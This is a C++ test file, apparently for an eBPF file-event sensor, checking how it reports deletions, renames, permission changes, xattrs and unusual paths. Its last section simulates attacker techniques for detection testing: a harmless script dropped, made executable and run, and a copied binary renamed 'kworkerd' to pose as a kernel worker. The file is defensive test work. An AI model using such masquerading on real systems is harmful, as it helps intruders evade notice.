  EXPECT_EQ(get(r, "nightjar.file.original.path"), a["hard"]);
  EXPECT_EQ(get(r, "file.inode"), ino);
  EXPECT_EQ(get(r, "nightjar.file.replaced.inode"), std::to_string(a["other_ino"].get<long long>()));
  json u = one("delete", a["other"]);
  EXPECT_EQ(get(u, "file.type"), "file");
  EXPECT_EQ(get(u, "file.inode"), ino);
  one("delete", a["sym"]);
  one("delete", file);
  json rd = one("delete", d);
  EXPECT_EQ(get(rd, "file.type"), "dir");
}

// overlayfs where the kernel has it as a module not loaded yet (the matrix
// VMs: their initramfs carries the module file, and no modprobe).
bool load_overlay_module() {
  utsname u{};
  if (uname(&u)) return false;
  for (const char* ext : {".ko", ".ko.xz", ".ko.zst"}) {
    const std::string path = std::string("/lib/modules/") + u.release + "/kernel/fs/overlayfs/overlay" + ext;
    const int fd = open(path.c_str(), O_RDONLY | O_CLOEXEC);
    if (fd < 0) continue;
    const unsigned flags = std::string(ext) == ".ko" ? 0 : 4;  // MODULE_INIT_COMPRESSED_FILE
    const long r = syscall(SYS_finit_module, fd, "", flags);
    close(fd);
    return r == 0 || errno == EEXIST;
  }
  return false;
}

// overlayfs (a container's root) opens the real file beneath the one named,
// in the same thread: that inner open is not a second event, neither as
// the upper layer's path (v6.8+) nor as a modify of the named path.
TEST_P(FileEvents, IoUringOpenInAnOverlayIsOneEvent) {
  if (backend() == "tracepoint") GTEST_SKIP() << "io_uring requests are seen inside the VFS on kprobe and fentry";
  const std::string lower = dir_ + "/lower", upper = dir_ + "/upper", work = dir_ + "/work", merged = dir_ + "/merged";
  for (const std::string& d : {lower, upper, work, merged}) fs::create_directories(d);
  const std::string opts = "lowerdir=" + lower + ",upperdir=" + upper + ",workdir=" + work;
  int r = mount("overlay", merged.c_str(), "overlay", 0, opts.c_str());
  if (r != 0 && errno == ENODEV && load_overlay_module())
    r = mount("overlay", merged.c_str(), "overlay", 0, opts.c_str());
  if (r != 0) GTEST_SKIP() << "no overlayfs here: " << std::strerror(errno);
  struct Unmount {
    std::string path;
    ~Unmount() { umount2(path.c_str(), MNT_DETACH); }
  } unmount{merged};
  ACT(a, "io_uring_openat", merged);
  if (!uring_seen(a)) GTEST_SKIP() << "the ring's workers are kernel threads here";
  const long pid = a["pid"];
  const std::string path = a["path"], real = upper + "/uring-created.txt";
  FIND(e, "create", pid, path);
  EXPECT_EQ(get(e, "nightjar.file.io_uring.worker"), true);
  EXPECT_EQ(all_of("create", pid, path).size(), 1u);
  EXPECT_TRUE(all_of("modify", pid, path, 0).empty());
  EXPECT_TRUE(all_of("create", pid, real, 0).empty());
  EXPECT_TRUE(all_of("modify", pid, real, 0).empty());
}

// A watched file read through io_uring: the read is reported (kprobe,
// fentry), tagged by its rule. Its dentry is cached, so io_uring_enter
// opens it inline, without a worker: recognised by the syscall the thread
// is in, which needs v5.15.
TEST_P(FileEvents, IoUringReadOfAWatchedFile) {
  const std::string watched = base().dir + "/watched";
  ACT(a, "io_uring_read", watched);
  const long pid = a["pid"];
  const std::string path = a["path"];
  if (backend() == "tracepoint" || !kernel_names_syscall()) {
    if (backend() == "tracepoint") {
      EXPECT_TRUE(all_of("read", pid, path).empty());
    }
    fs::remove(path);
    return;
  }
  FIND(e, "read", pid, path);
  expect_common(e, pid, "unknown");
  EXPECT_EQ(get(e, "nightjar.file.tags"), json::array({"nj-watched"}));
  EXPECT_EQ(get(e, "nightjar.file.io_uring.worker"), false);
  EXPECT_EQ(get(e, "nightjar.file.open_flags"), json::array({"O_RDONLY", "O_LARGEFILE"}))
      << "without the O_NONBLOCK io_uring adds (O_CLOEXEC is the descriptor's, not the file's)";
  EXPECT_FALSE(has(e, "nightjar.syscall"));
  EXPECT_EQ(all_of("read", pid, path).size(), 1u);
  fs::remove(path);
}

TEST_P(FileEvents, Unlink) {
  ACT(a, "file-unlink", dir_);
  FIND(e, "delete", a["pid"], a["path"], "unlink");
  expect_common(e, a["pid"]);
  EXPECT_EQ(get(e, "event.type"), json::array({"deletion"}));
  expect_path(e, a["path"], dir_, "unlink.txt", "txt");
  expect_path_identity(e, "security_path_unlink");
  if (hooked("security_path_unlink")) EXPECT_EQ(get(e, "file.type"), "file") << "seen before it was unlinked";
  else EXPECT_FALSE(has(e, "file.type")) << "unknown once unlinked";
}

TEST_P(FileEvents, UnlinkatOfAFileAndADirectory) {
  ACT(a, "file-unlinkat", dir_);
  FIND(f, "delete", a["pid"], a["path"], "unlinkat");
  expect_common(f, a["pid"]);
  expect_path(f, a["path"], dir_, "unlinkat.txt", "txt");
  EXPECT_EQ(get(f, "nightjar.file.path_as_passed"), "unlinkat.txt");
  expect_path_identity(f, "security_path_unlink");
  if (hooked("security_path_unlink")) EXPECT_EQ(get(f, "file.type"), "file");
  else EXPECT_FALSE(has(f, "file.type"));
  FIND(d, "delete", a["pid"], a["dir_path"], "unlinkat");
  expect_common(d, a["pid"]);
  EXPECT_EQ(get(d, "file.type"), "dir") << "AT_REMOVEDIR";
  expect_path_identity(d, "security_path_rmdir");
}

TEST_P(FileEvents, RmdirRelativeToTheCwd) {
  ACT(a, "file-rmdir", dir_);
  FIND(e, "delete", a["pid"], a["path"], "rmdir");
  expect_common(e, a["pid"]);
  expect_path(e, a["path"], dir_, "rmdir-dir", "");
  EXPECT_EQ(get(e, "file.type"), "dir");
  EXPECT_EQ(get(e, "nightjar.file.path_as_passed"), "rmdir-dir");
}

// ---------------------------------------------------------------------------
// rename, renameat, renameat2.

TEST_P(FileEvents, RenameAndRenameOverAnExistingFile) {
  ACT(a, "file-rename", dir_);
  FIND(e, "rename", a["pid"], a["to"], "rename");
  expect_common(e, a["pid"]);
  EXPECT_EQ(get(e, "event.type"), json::array({"change"}));
  expect_path(e, a["to"], dir_, "rename-b.txt", "txt");
  EXPECT_EQ(get(e, "nightjar.file.original.path"), a["from"]);
  EXPECT_EQ(get(e, "nightjar.file.original.directory"), dir_);
  EXPECT_EQ(get(e, "nightjar.file.original.name"), "rename-a.txt");
  EXPECT_FALSE(has(e, "nightjar.file.rename_flags")) << "rename has no flags";
  expect_path_identity(e, "security_path_rename");

  // Over an existing file: the replaced file's identity is not known to a
  // syscall exit (documented); both names are.
  FIND(o, "rename", a["pid"], a["over"], "rename");
  expect_common(o, a["pid"]);
  EXPECT_EQ(get(o, "nightjar.file.original.path"), a["to"]);
  expect_path_identity(o, "security_path_rename");
  if (hooked("security_path_rename")) {
    EXPECT_TRUE(has(o, "nightjar.file.replaced.inode")) << o["nightjar"].dump();
    EXPECT_EQ(get(o, "nightjar.file.replaced.type"), "file");
    EXPECT_FALSE(has(e, "nightjar.file.replaced")) << "nothing was replaced";
  } else {
    EXPECT_EQ(get(o, "nightjar.file.replaced_unknown"), true);
  }
}

TEST_P(FileEvents, RenameatBetweenDirfds) {
  ACT(a, "file-renameat", dir_);
  FIND(e, "rename", a["pid"], a["to"], "renameat");
  expect_common(e, a["pid"]);
  expect_path(e, a["to"], dir_ + "/to", "r2.txt", "txt");
  EXPECT_EQ(get(e, "nightjar.file.path_as_passed"), "../to/r2.txt");
  EXPECT_EQ(get(e, "nightjar.file.original.path"), a["from"]);
  EXPECT_EQ(get(e, "nightjar.file.original.directory"), dir_ + "/from");
  EXPECT_EQ(get(e, "nightjar.file.original.path_as_passed"), "r.txt");
}

TEST_P(FileEvents, Renameat2NoReplaceAndExchange) {
  ACT(a, "file-renameat2", dir_);
  FIND(n, "rename", a["pid"], a["noreplace_to"], "renameat2");
  expect_common(n, a["pid"]);
  EXPECT_EQ(get(n, "nightjar.file.original.path"), a["noreplace_from"]);
  EXPECT_EQ(get(n, "nightjar.file.rename_flags"), json::array({"RENAME_NOREPLACE"}));
  FIND(x, "rename", a["pid"], a["exchange_to"], "renameat2");
  expect_common(x, a["pid"]);
  EXPECT_EQ(get(x, "nightjar.file.original.path"), a["exchange_from"]);
  EXPECT_EQ(get(x, "nightjar.file.rename_flags"), json::array({"RENAME_EXCHANGE"}));
}

// ---------------------------------------------------------------------------
// truncate, ftruncate.

TEST_P(FileEvents, TruncateByPathAndByFd) {
  ACT(a, "file-truncate", dir_);
  FIND(t, "modify", a["pid"], a["truncate_path"], "truncate");
  expect_common(t, a["pid"]);
  EXPECT_EQ(get(t, "event.type"), json::array({"change"}));
  EXPECT_EQ(get(t, "nightjar.file.length"), 3);
  expect_path_identity(t, "vfs_truncate");
  FIND(f, "modify", a["pid"], a["ftruncate_path"], "ftruncate");
  expect_common(f, a["pid"]);
  EXPECT_EQ(get(f, "nightjar.file.length"), 7);
  expect_identity(f, a, "ftruncate");
  // The open for writing before it is an event of its own, and a
  // ftruncate is never folded into it.
  FIND(o, "modify", a["pid"], a["ftruncate_path"], "openat");
  EXPECT_EQ(get(o, "nightjar.file.open_flags"), json::array({"O_RDWR"}));
}

// chattr: the inode flags set through either ioctl, with the immutable and
// append-only bits spelled out the same way for both; and a refusal (uid
// 65534 lacks CAP_LINUX_IMMUTABLE, even on its own file).
TEST_P(FileEvents, Chattr) {
  ACT(a, "file-chattr", dir_);
  // The refusal came last: what came before it has arrived.
  FIND(d, "chattr", a["denied_pid"], a["denied_path"], "ioctl");
  expect_common(d, a["denied_pid"], "failure");
  EXPECT_EQ(get(d, "error.code"), "EPERM");
  EXPECT_EQ(get(d, "process.user.id"), "65534");
  EXPECT_EQ(get(d, "file.uid"), "65534");
  EXPECT_EQ(get(d, "nightjar.file.ioctl"), "FS_IOC_SETFLAGS");
  EXPECT_EQ(get(d, "nightjar.file.inode_flags"), json::array({"FS_IMMUTABLE_FL"}));
  EXPECT_EQ(get(d, "nightjar.file.immutable"), true);
  EXPECT_EQ(get(d, "nightjar.file.append_only"), false);

  auto events = all_of("chattr", a["pid"], a["path"]);
  const size_t want = a["file_setattr"] == 1 ? 6 : 4;
  if (events.size() < want && lost_since_setup()) GTEST_SKIP() << "inconclusive: the sensor lost records meanwhile";
  ASSERT_EQ(events.size(), want) << "set and cleared through each ioctl (and file_setattr where the kernel has it)";
  std::map<std::pair<std::string, bool>, json> by;  // (ioctl or syscall, immutable)
  for (const json& e : events) {
    expect_common(e, a["pid"]);
    EXPECT_EQ(get(e, "event.type"), json::array({"change"}));
    expect_path(e, a["path"], dir_, "chattr.txt", "txt");
    if (get(e, "nightjar.syscall") == "file_setattr") {
      // By path: no identity, and the flags asked for.
      expect_no_identity(e);
      EXPECT_FALSE(has(e, "nightjar.file.ioctl"));
      by[{"file_setattr", get(e, "nightjar.file.immutable")}] = e;
      continue;
    }
    EXPECT_EQ(get(e, "nightjar.syscall"), "ioctl");
    expect_identity(e, a, "obj");
    by[{get(e, "nightjar.file.ioctl"), get(e, "nightjar.file.immutable")}] = e;
  }
  auto popcount = [](const json& n) { return static_cast<size_t>(__builtin_popcount(n.get<unsigned>())); };
  const json& set = by[{"FS_IOC_SETFLAGS", true}];
  ASSERT_FALSE(set.is_null()) << "chattr +ia";
  EXPECT_EQ(get(set, "nightjar.file.append_only"), true);
  const json flags = get(set, "nightjar.file.inode_flags");
  EXPECT_EQ(flags.size(), popcount(a["set_flags"])) << flags.dump();
  EXPECT_NE(std::find(flags.begin(), flags.end(), "FS_IMMUTABLE_FL"), flags.end()) << flags.dump();
  EXPECT_NE(std::find(flags.begin(), flags.end(), "FS_APPEND_FL"), flags.end()) << flags.dump();
  const json& cleared = by[{"FS_IOC_SETFLAGS", false}];
  ASSERT_FALSE(cleared.is_null()) << "chattr -ia";
  EXPECT_EQ(get(cleared, "nightjar.file.append_only"), false);
  EXPECT_EQ(get(cleared, "nightjar.file.inode_flags").size(), popcount(a["orig_flags"]));
  const json& xset = by[{"FS_IOC_FSSETXATTR", true}];
  ASSERT_FALSE(xset.is_null()) << "FS_XFLAG_IMMUTABLE set";
  const json xflags = get(xset, "nightjar.file.inode_flags");
  EXPECT_EQ(xflags.size(), popcount(a["set_xflags"])) << xflags.dump();
  EXPECT_NE(std::find(xflags.begin(), xflags.end(), "FS_XFLAG_IMMUTABLE"), xflags.end()) << xflags.dump();
  const json& xcleared = by[{"FS_IOC_FSSETXATTR", false}];
  ASSERT_FALSE(xcleared.is_null()) << "FS_XFLAG_IMMUTABLE cleared";
  EXPECT_EQ(get(xcleared, "nightjar.file.inode_flags").size(), popcount(a["orig_xflags"]));
  if (want == 4) return;
  const json& fset = by[{"file_setattr", true}];
  ASSERT_FALSE(fset.is_null()) << "file_setattr FS_XFLAG_IMMUTABLE";
  const json fflags = get(fset, "nightjar.file.inode_flags");
  EXPECT_EQ(fflags.size(), popcount(a["set_xflags"])) << fflags.dump();
  EXPECT_NE(std::find(fflags.begin(), fflags.end(), "FS_XFLAG_IMMUTABLE"), fflags.end()) << fflags.dump();
  const json& fcleared = by[{"file_setattr", false}];
  EXPECT_FALSE(fcleared.is_null()) << "file_setattr back";
}

// Space allocated, and a hole punched (data destroyed without a write).
TEST_P(FileEvents, FallocateAllocatesAndPunchesHoles) {
  ACT(a, "file-fallocate", dir_);
  FIND(f, "modify", a["pid"], a["path"], "fallocate");
  expect_common(f, a["pid"]);
  EXPECT_EQ(get(f, "event.type"), json::array({"change"}));
  EXPECT_EQ(get(f, "nightjar.file.offset"), 4096);
  EXPECT_EQ(get(f, "nightjar.file.length"), 8192);
  EXPECT_EQ(get(f, "nightjar.file.fallocate_mode"), json::array({"FALLOC_FL_ALLOCATE_RANGE"}));
  expect_identity(f, a, "fd");
  FIND(p, "modify", a["pid"], a["punch_path"], "fallocate");
  EXPECT_EQ(get(p, "nightjar.file.offset"), 2);
  EXPECT_EQ(get(p, "nightjar.file.length"), 8);
  EXPECT_EQ(get(p, "nightjar.file.fallocate_mode"), json::array({"FALLOC_FL_KEEP_SIZE", "FALLOC_FL_PUNCH_HOLE"}));
  expect_identity(p, a, "punch");
}

// ---------------------------------------------------------------------------
// chmod family.

TEST_P(FileEvents, ChmodSetuid) {
  ACT(a, "file-chmod", dir_);
  FIND(e, "chmod", a["pid"], a["path"], "chmod");
  expect_common(e, a["pid"]);
  EXPECT_EQ(get(e, "event.type"), json::array({"change"}));
  expect_path(e, a["path"], dir_, "chmod.bin", "bin");
  EXPECT_EQ(get(e, "nightjar.file.new_mode"), "4755");
  EXPECT_EQ(get(e, "nightjar.file.mode_bits"), json::array({"setuid"}));
  expect_path_identity(e, "security_path_chmod");
}

TEST_P(FileEvents, FchmodSetgid) {
  ACT(a, "file-fchmod", dir_);
  FIND(e, "chmod", a["pid"], a["path"], "fchmod");
  expect_common(e, a["pid"]);
  EXPECT_EQ(get(e, "nightjar.file.new_mode"), "2750");
  EXPECT_EQ(get(e, "nightjar.file.mode_bits"), json::array({"setgid"}));
  expect_identity(e, a, "obj");
  EXPECT_EQ(get(e, "file.type"), "file");
  EXPECT_EQ(get(e, "file.mode"), "2750") << "the file as the exit saw it";
  EXPECT_FALSE(has(e, "nightjar.file.unlinked"));
}

TEST_P(FileEvents, FchmodatSticky) {
  ACT(a, "file-fchmodat", dir_);
  FIND(e, "chmod", a["pid"], a["path"], "fchmodat");
  expect_common(e, a["pid"]);
  EXPECT_EQ(get(e, "nightjar.file.new_mode"), "1777");
  EXPECT_EQ(get(e, "nightjar.file.mode_bits"), json::array({"sticky"}));
  EXPECT_EQ(get(e, "nightjar.file.path_as_passed"), "shared");
  expect_path_identity(e, "security_path_chmod");
}

TEST_P(FileEvents, Fchmodat2) {
  ACT(a, "file-fchmodat2", dir_);
  FIND(e, "chmod", a["pid"], a["path"], "fchmodat2");
  expect_common(e, a["pid"]);
  EXPECT_EQ(get(e, "nightjar.file.new_mode"), "6711");
  EXPECT_EQ(get(e, "nightjar.file.mode_bits"), json::array({"setuid", "setgid"}));
  EXPECT_EQ(get(e, "nightjar.file.path_as_passed"), "fchmodat2.txt");
}

// ---------------------------------------------------------------------------
// chown family.

TEST_P(FileEvents, ChownAndLchown) {
  ACT(a, "file-chown", dir_);
  FIND(e, "chown", a["pid"], a["path"], "chown");
  expect_common(e, a["pid"]);
  EXPECT_EQ(get(e, "event.type"), json::array({"change"}));
  EXPECT_EQ(get(e, "nightjar.file.new_uid"), 65534);
  EXPECT_EQ(get(e, "nightjar.file.new_gid"), 65534);
  expect_path_identity(e, "security_path_chown");
  // -1: unchanged, so absent.
  FIND(l, "chown", a["pid"], a["lchown_path"], "lchown");
  expect_common(l, a["pid"]);
  EXPECT_EQ(get(l, "nightjar.file.new_uid"), 1);
  EXPECT_FALSE(has(l, "nightjar.file.new_gid"));
}

TEST_P(FileEvents, FchownAndFchownat) {
  ACT(a, "file-fchown", dir_);
  FIND(e, "chown", a["pid"], a["fchown_path"], "fchown");
  expect_common(e, a["pid"]);
  EXPECT_FALSE(has(e, "nightjar.file.new_uid"));
  EXPECT_EQ(get(e, "nightjar.file.new_gid"), 65534);
  expect_identity(e, a, "fchown");
  EXPECT_EQ(get(e, "file.gid"), "65534");
  FIND(at, "chown", a["pid"], a["fchownat_path"], "fchownat");
  expect_common(at, a["pid"]);
  EXPECT_EQ(get(at, "nightjar.file.new_uid"), 2);
  EXPECT_EQ(get(at, "nightjar.file.new_gid"), 3);
  EXPECT_EQ(get(at, "nightjar.file.path_as_passed"), "fchownat.txt");
}

// ---------------------------------------------------------------------------
// utime, utimes, futimesat, utimensat.

TEST_P(FileEvents, UtimeUtimesFutimesat) {
  ACT(a, "file-utime", dir_);
  FIND(u, "times", a["pid"], a["utime_path"], "utime");
  expect_common(u, a["pid"]);
  EXPECT_EQ(get(u, "event.type"), json::array({"change"}));
  EXPECT_EQ(get(u, "nightjar.file.atime"), "2001-01-01T00:00:00.000000000Z");
  EXPECT_EQ(get(u, "nightjar.file.mtime"), "2001-09-09T01:46:40.000000000Z");
  expect_path_identity(u, "vfs_utimes");
  FIND(n, "times", a["pid"], a["utime_now_path"], "utime");
  EXPECT_EQ(get(n, "nightjar.file.atime"), "now");
  EXPECT_EQ(get(n, "nightjar.file.mtime"), "now");
  // Microseconds, as nanoseconds.
  FIND(s, "times", a["pid"], a["utimes_path"], "utimes");
  EXPECT_EQ(get(s, "nightjar.file.atime"), "2001-01-01T00:00:00.500000000Z");
  EXPECT_EQ(get(s, "nightjar.file.mtime"), "2001-01-01T00:00:01.000250000Z");
  FIND(f, "times", a["pid"], a["futimesat_path"], "futimesat");
  EXPECT_EQ(get(f, "nightjar.file.atime"), "2001-01-01T00:00:00.500000000Z");
  EXPECT_EQ(get(f, "nightjar.file.path_as_passed"), "futimesat.txt");
}

TEST_P(FileEvents, UtimensatAndFutimens) {
  ACT(a, "file-utimensat", dir_);
  FIND(e, "times", a["pid"], a["utimensat_path"], "utimensat");
  expect_common(e, a["pid"]);
  EXPECT_EQ(get(e, "nightjar.file.atime"), "2001-01-01T00:00:00.123456789Z");
  EXPECT_EQ(get(e, "nightjar.file.mtime"), "unchanged") << "UTIME_OMIT";
  EXPECT_EQ(get(e, "nightjar.file.path_as_passed"), "utimensat.txt");
  expect_path_identity(e, "vfs_utimes");
  // utimensat(fd, NULL, NULL): futimens to now, the object is the fd.
  FIND(f, "times", a["pid"], a["futimens_path"], "utimensat");
  expect_common(f, a["pid"]);
  EXPECT_EQ(get(f, "nightjar.file.atime"), "now");
  EXPECT_EQ(get(f, "nightjar.file.mtime"), "now");
  expect_identity(f, a, "futimens");
}

// ---------------------------------------------------------------------------
// xattrs, memfd.

TEST_P(FileEvents, XattrSetAndRemoveByPathLinkAndFd) {
  ACT(a, "file-xattr", dir_);
  struct Case {
    const char* syscall;
    std::string path, name;
    const char* op;
    int size;  // -1: none (remove)
    bool by_fd;
  };
  const std::string path = a["path"], name = a["name"], link = a["link_path"], lname = a["link_name"],
                    fpath = a["fd_path"], fname = a["fd_name"];
  const Case cases[] = {
      {"setxattr", path, name, "set", 1, false},          {"lsetxattr", link, lname, "set", 2, false},
      {"fsetxattr", fpath, fname, "set", 3, true},        {"removexattr", path, name, "remove", -1, false},
      {"lremovexattr", link, lname, "remove", -1, false}, {"fremovexattr", fpath, fname, "remove", -1, true},
  };
  for (const Case& c : cases) {
    SCOPED_TRACE(c.syscall);
    FIND(e, "xattr", a["pid"], c.path, c.syscall);
    expect_common(e, a["pid"]);
    EXPECT_EQ(get(e, "event.type"), json::array({"change"}));
    EXPECT_EQ(get(e, "nightjar.file.xattr.name"), c.name);
    EXPECT_EQ(get(e, "nightjar.file.xattr.operation"), c.op);
    if (c.size < 0) EXPECT_FALSE(has(e, "nightjar.file.xattr.size"));
    else EXPECT_EQ(get(e, "nightjar.file.xattr.size"), c.size);
    EXPECT_FALSE(has(e, "nightjar.file.xattr.file_capabilities"));
    if (c.by_fd) expect_identity(e, a, "fd");
    else
      expect_path_identity(e, std::string(c.syscall).find("remove") != std::string::npos ? "security_inode_removexattr"
                                                                                         : "security_inode_setxattr");
  }
}

// Linux 6.13's *xattrat, relative to a directory fd.
TEST_P(FileEvents, XattrSetAndRemoveRelativeToADirectoryFd) {
  ACT(a, "file-xattrat", dir_);
  for (const char* syscall : {"setxattrat", "removexattrat"}) {
    SCOPED_TRACE(syscall);
    const bool set = std::string(syscall) == "setxattrat";
    FIND(e, "xattr", a["pid"], a["path"], syscall);
    expect_common(e, a["pid"]);
    EXPECT_EQ(get(e, "event.type"), json::array({"change"}));
    expect_path(e, a["path"], dir_, "xattrat.txt", "txt");
    EXPECT_EQ(get(e, "nightjar.file.xattr.name"), a["name"]);
    EXPECT_EQ(get(e, "nightjar.file.xattr.operation"), set ? "set" : "remove");
    if (set) EXPECT_EQ(get(e, "nightjar.file.xattr.size"), a["size"]);
    else EXPECT_FALSE(has(e, "nightjar.file.xattr.size"));
    expect_path_identity(e, set ? "security_inode_setxattr" : "security_inode_removexattr");
  }
}

TEST_P(FileEvents, MemfdCreate) {
  ACT(a, "file-memfd", dir_);
  const std::string path = "/memfd:nj-file-memfd";
  json e = find("memfd", a["pid"], path, "memfd_create");
  expect_common(e, a["pid"]);
  EXPECT_EQ(get(e, "event.type"), json::array({"creation"}));
  // The anonymous file's own name, as /proc/<pid>/fd shows it (less its
  // " (deleted)").
  expect_path(e, path, "/", "memfd:nj-file-memfd", "");
  EXPECT_EQ(get(e, "file.type"), "file");
  expect_identity(e, a, "obj");
  EXPECT_EQ(get(e, "nightjar.file.memfd_flags"), json::array({"MFD_CLOEXEC", "MFD_ALLOW_SEALING"}));
}

// ---------------------------------------------------------------------------
// Paths.

// ".." and "." through the cwd and through a dirfd: folded in file.path,
// kept as passed beside it.
TEST_P(FileEvents, DotDotComponentsAreResolved) {
  ACT(a, "file-dotdot", dir_);
  FIND(c, "chmod", a["pid"], a["chmod_path"], "fchmodat");
  expect_common(c, a["pid"]);
  expect_path(c, a["chmod_path"], dir_, "dotdot.txt", "txt");
  EXPECT_EQ(get(c, "nightjar.file.path_as_passed"), a["chmod_as_passed"]);
  FIND(d, "delete", a["pid"], a["unlink_path"], "unlinkat");
  expect_common(d, a["pid"]);
  expect_path(d, a["unlink_path"], dir_ + "/b", "gone.txt", "txt");
  EXPECT_EQ(get(d, "nightjar.file.path_as_passed"), a["unlink_as_passed"]);
}

// A path of 4095 bytes (PATH_MAX less its NUL), the longest a syscall
// takes: whole when passed whole, and whole when walked by the kernel (its
// walk holds PATH_MAX bytes), also below a directory fd.
TEST_P(FileEvents, LongestPath) {
  ACT(a, "file-long-path", dir_);
  const std::string path = a["path"], leaf = a["leaf"];
  ASSERT_EQ(path.size(), 4095u);
  const std::string parent = path.substr(0, path.size() - leaf.size() - 1);

  FIND(whole, "chmod", a["pid"], path, "fchmodat");
  expect_common(whole, a["pid"]);
  EXPECT_EQ(get(whole, "file.directory"), parent);
  EXPECT_EQ(get(whole, "file.name"), leaf);
  EXPECT_EQ(get(whole, "file.extension"), "txt");
  EXPECT_EQ(get(whole, "nightjar.file.new_mode"), "0600");

  FIND(created, "create", a["pid"], path);
  expect_identity(created, a, "obj");
  EXPECT_EQ(get(created, "nightjar.file.open_flags"), json::array({"O_WRONLY", "O_CREAT", "O_EXCL"}));
  EXPECT_FALSE(has(created, "nightjar.file.path_truncated"));

  WAIT(
      rel,
      [&](const json& e) {
        return is_file_event(e, "chmod", a["pid"]) && e["nightjar"]["file"].value("new_mode", "") == "0640";
      },
      "chmod of the leaf relative to its directory");
  EXPECT_EQ(get(rel, "file.path"), path);
  EXPECT_FALSE(has(rel, "nightjar.file.path_truncated"));
  EXPECT_EQ(get(rel, "nightjar.file.path_as_passed"), leaf);
}

// Deeper than the kernel's walk goes (64 components): the path is the tail
// that was walked behind ".../", which no absolute path starts with, and
// says it was cut; the file is still named and identified.
TEST_P(FileEvents, DeeperThanTheWalkIsAMarkedTail) {
  ACT(a, "file-deep-path", dir_);
  const std::string path = a["path"], leaf = a["leaf"];
  WAIT(
      created,
      [&](const json& e) { return is_file_event(e, "create", a["pid"]) && e["file"].value("name", "") == leaf; },
      "create of the deep path");
  expect_identity(created, a, "obj");
  const std::string cpath = get(created, "file.path");
  EXPECT_EQ(get(created, "nightjar.file.path_truncated"), true);
  ASSERT_EQ(cpath.rfind(".../", 0), 0u) << cpath;
  const std::string tail = cpath.substr(3);
  EXPECT_LT(tail.size(), path.size());
  EXPECT_EQ(path.substr(path.size() - tail.size()), tail) << "the walk's deepest part";
}

// A newline, a quote, a backslash and bytes that are not UTF-8 in names:
// valid JSON lines, the invalid bytes escaped as \xNN (backslashes doubled
// so that it reads back), and the escaped fields named.
TEST_P(FileEvents, NamesThatAreNotPlainText) {
  ACT(a, "file-weird-names", dir_);
  const std::string n1 = "new\nline \"q\" \\xff.txt", n2 = "tab\tand\\\\back\\xfe";
  FIND(c, "create", a["pid"], dir_ + "/" + n1, "openat");
  expect_common(c, a["pid"]);
  expect_path(c, dir_ + "/" + n1, dir_, n1, "txt");
  expect_identity(c, a, "obj");
  EXPECT_EQ(get(c, "nightjar.escaped_fields"), json::array({"file.path", "file.name"}));

  FIND(r, "rename", a["pid"], dir_ + "/" + n2, "renameat");
  expect_common(r, a["pid"]);
  EXPECT_EQ(get(r, "file.name"), n2);
  EXPECT_EQ(get(r, "nightjar.file.original.path"), dir_ + "/" + n1);
  EXPECT_EQ(get(r, "nightjar.file.original.path_as_passed"), n1);
  EXPECT_EQ(get(r, "nightjar.file.path_as_passed"), n2);
  const json esc = get(r, "nightjar.escaped_fields");
  for (const char* f : {"file.path", "file.name", "nightjar.file.path_as_passed", "nightjar.file.original.path"})
    EXPECT_NE(std::find(esc.begin(), esc.end(), json(f)), esc.end()) << f << " in " << esc.dump();

  FIND(d, "delete", a["pid"], dir_ + "/" + n2, "unlinkat");
  EXPECT_EQ(get(d, "nightjar.file.path_as_passed"), n2);
  // No raw newline or invalid byte made it into a line (read line by line:
  // the file may be large).
  std::ifstream in(sensor().output_path(), std::ios::binary);
  const std::string mark = "\"pid\":" + std::to_string(a["pid"].get<long>()) + ",";
  for (std::string l; std::getline(in, l);)
    if (l.find(mark) != std::string::npos && l.find(dir_) != std::string::npos) {
      EXPECT_EQ(l.find('\xff'), std::string::npos);
      EXPECT_EQ(l.find('\xfe'), std::string::npos);
    }
}

// A file deleted while open stays the object of what is done through its
// fd: its path is the name it had, its identity the same.
TEST_P(FileEvents, FileDeletedWhileOpen) {
  ACT(a, "file-deleted-open", dir_);
  FIND(d, "delete", a["pid"], a["path"], "unlinkat");
  FIND(c, "chmod", a["pid"], a["path"], "fchmod");
  expect_common(c, a["pid"]);
  expect_identity(c, a, "obj");
  EXPECT_EQ(get(c, "nightjar.file.new_mode"), "0700");
  EXPECT_EQ(get(c, "nightjar.file.unlinked"), true) << c.dump();
  FIND(t, "modify", a["pid"], a["path"], "ftruncate");
  expect_identity(t, a, "obj");
  EXPECT_EQ(get(t, "nightjar.file.length"), 1);
  EXPECT_EQ(get(t, "nightjar.file.unlinked"), true) << t.dump();
  EXPECT_FALSE(has(d, "nightjar.file.unlinked")) << d.dump();
}

// ---------------------------------------------------------------------------
// What attackers' tools do, run as a user runs them.

// A script written to /tmp, made executable and run.
TEST_P(FileEvents, AttackScriptDroppedMadeExecutableAndRun) {
  const std::string script = dir_ + "/update.sh";
  ToolRun sh = run_tool({"/bin/sh", "-c", "umask 022; printf '#!/bin/sh\\nexit 0\\n' > " + script});
  ASSERT_EQ(sh.status, 0);
  ToolRun chmod = run_tool({"chmod", "+x", script});
  ASSERT_EQ(chmod.status, 0);
  ToolRun run = run_tool({script});
  ASSERT_EQ(run.status, 0);

  FIND(c, "create", sh.pid, script);
  expect_common(c, sh.pid);
  EXPECT_EQ(get(c, "process.name"), "sh");
  EXPECT_EQ(get(c, "file.mode"), "0644");
  EXPECT_EQ(get(c, "file.extension"), "sh");
  FIND(m, "chmod", chmod.pid, script);
  expect_common(m, chmod.pid);
  EXPECT_EQ(get(m, "process.name"), "chmod");
  EXPECT_EQ(get(m, "nightjar.file.new_mode"), "0755");
  EXPECT_EQ(get(m, "nightjar.file.mode_bits"), json::array());
  WAIT(
      x, [&](const json& e) { return is_exec(e, run.pid); }, "exec of pid " + std::to_string(run.pid));
  EXPECT_EQ(get(x, "nightjar.filename"), script);
}

// A binary copied (cp /usr/bin/true), renamed to look like a kernel
// worker and run: the exec runs the very file the copy created.
TEST_P(FileEvents, AttackCopiedBinaryRenamedLikeADaemonAndRun) {
  const std::string copy = dir_ + "/true-copy", daemon = dir_ + "/kworkerd";
  // Where true is busybox (the kernel matrix's guests), a copy named
  // kworkerd would not know what to run: copy a program of its own.
  std::string bin = "/usr/bin/true";
  std::vector<std::string> args{daemon};
  if (fs::canonical(bin).filename().string().find("busybox") != std::string::npos) {
    bin = NJ_ACTIONS;
    args.push_back("list");
  }
  ToolRun cp = run_tool({"cp", bin, copy});
  ASSERT_EQ(cp.status, 0);
  ToolRun mv = run_tool({"mv", copy, daemon});
  ASSERT_EQ(mv.status, 0);
  ToolRun run = run_tool(args);
  ASSERT_EQ(run.status, 0);

